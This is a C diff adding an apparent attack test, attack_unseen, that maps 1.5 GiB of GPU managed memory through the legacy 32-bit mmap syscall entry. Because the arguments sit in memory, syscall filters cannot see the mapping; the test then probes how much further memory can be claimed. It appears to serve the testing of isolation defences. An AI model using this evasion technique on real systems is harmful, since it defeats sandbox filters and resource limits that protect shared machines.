@@ -170,3 +170,39 @@ void attack_uvm_heir (int argc, char **argv)
     say ("kept", all);
     hold ();
 }
+
+/* unseen: 1.5 GiB of managed memory by the first mmap of the 32-bit entry, whose arguments are in memory: no filter sees that it
+ * is a shared mapping. How many pieces of 1 GiB can be had three seconds later? */
+void attack_unseen (int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    struct uvm uvm = begin (&bed, false);
+    unsigned pieces = 0;
+    uint32_t handle;
+    long mapped = -ENOSYS;
+
+    (void) argc, (void) argv;
+#ifdef __x86_64__
+    uint32_t *low = mmap (NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    uint32_t place = 0x84000000;
+    int status;
+
+    /* mmap_arg_struct32 (sys_ia32.c): address, length, protection, flags, descriptor, offset. */
+    memcpy (low, (uint32_t[]) { place, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, (uint32_t) uvm.file, place },
+            24);
+    /* A kernel without this entry ends whoever takes it. */
+    pid_t child = fork ();
+    if (child == 0)
+        _exit (entry_32 (20, 0, 0, 0) <= 0);
+    waitpid (child, &status, 0);
+    if (WIFEXITED (status) && WEXITSTATUS (status) == 0)
+        mapped = entry_32 (90, (long) low, 0, 0);
+    mapped = (uint32_t) mapped == place ? 0 : mapped;
+#endif
+    say ("mapped", (uint64_t) -mapped);
+    usleep (3000000);
+    while (pieces < 20 && bed_memory (&bed, &handle, GIB) == 0)
+        pieces++;
+    say ("pieces", pieces);
+    hold ();
+}
